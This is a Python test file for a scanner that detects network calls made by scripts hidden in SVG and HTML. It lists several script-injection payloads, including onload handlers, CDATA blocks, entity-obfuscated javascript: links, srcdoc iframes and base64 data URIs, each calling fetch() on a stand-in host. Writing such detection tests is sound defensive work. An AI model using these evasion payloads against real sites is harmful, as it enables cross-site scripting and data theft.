"""Scripts of pages and of pictures in SVG, however they are written down."""

from base64 import b64encode

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lazaretto.core.facts import Facts, Kind
from lazaretto.core.inner import Inner
from lazaretto.languages import _pages, text
from tests.languages.test_inner import read

HOST = "https://drop.example.invalid/x"
PICTURE = b64encode(f"<svg onload=\"fetch('{HOST}')\"></svg>".encode()).decode()
TOKENS = (
    b"<svg ", b"<script>", b"<script/>", b"</script>", b"<![CDATA[", b"]]>", b" onload='", b' href="', b"'", b'"', b">",
    b"data:text/html;base64,", b"javascript:", b"&#x6a;", b"&lt;", b" srcdoc=", b"a(1)", b"\n", b"//",
)  # fmt: skip


def reached(facts: Facts) -> list[tuple[str | None, int]]:
    """Return what is connected to, with the lines."""
    return [(fact.value, fact.span.line) for fact in facts.facts if fact.kind is Kind.NET_CONNECT]


@pytest.mark.parametrize(
    "element",
    [
        f'<svg onload="fetch(&quot;{HOST}&quot;)"/>',
        f"<svg:script><![CDATA[fetch('{HOST}')]]></svg:script>",
        f"<script>//<![CDATA[\nfetch('{HOST}')\n//]]></script>",
        f"<a xlink:href=\"java&#115;cript:fetch('{HOST}')\"/>",
        f"<set attributeName='href' to=\"javascript:fetch('{HOST}')\"/>",
        f"<iframe srcdoc=\"&lt;script&gt;fetch('{HOST}')&lt;/script&gt;\"/>",
        f"<p onclick=fetch('{HOST}')></p>".replace("'", "`"),
        f"<use href='data:text/javascript,fetch(%22{HOST}%22)'/>",
        f"<use href='data:image/svg+xml;base64,{PICTURE}'/>",
    ],
)
def test_every_way_to_write_a_script(element: str) -> None:
    """A script runs in whichever way it is written: so it is read, at its line."""
    page = f'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">\n{element}\n</svg>\n'.encode()

    found = reached(read("pad.svg", page))

    assert [value for value, _ in found] == [HOST]
    assert found[0][1] in (3, 4)


def test_empty_elements_of_xml() -> None:
    """In SVG a script with a slash at its end is empty: what follows is the picture, and its scripts are scripts."""
    page = f"<svg ><script href='a.js'/><text>it's</text><script>fetch('{HOST}')</script></svg>".encode()

    assert reached(read("pad.svg", page)) == [(HOST, 1)]


@pytest.mark.parametrize(
    "element",
    [
        "<use href='data:image/png;base64,AAAA'/>",
        "<a href='data:nothing'/>",
        "<a href='data:text/html;base64,A'/>",
        "<p on=1>",
    ],
)
def test_data_that_is_no_script(element: str) -> None:
    """Pictures in an address, and addresses that are none, give nothing."""
    assert not reached(read("pad.svg", element.encode()))


@settings(max_examples=300)
@given(data=st.binary(max_size=100) | st.lists(st.sampled_from(TOKENS)).map(b"".join))
def test_any_page(data: bytes) -> None:
    """Any page gives parts that stand inside it, the same ones each time."""
    parts = [part for part in _pages.scripts(data) if isinstance(part, Inner)]

    assert parts == list(_pages.scripts(data))
    assert all(part.places or len(part.data) <= len(data) for part in parts)
    assert all(0 <= place.start <= place.end <= len(data) for part in parts for place in part.places)
    assert list(text.inner("markup", data, Facts(""))) == parts
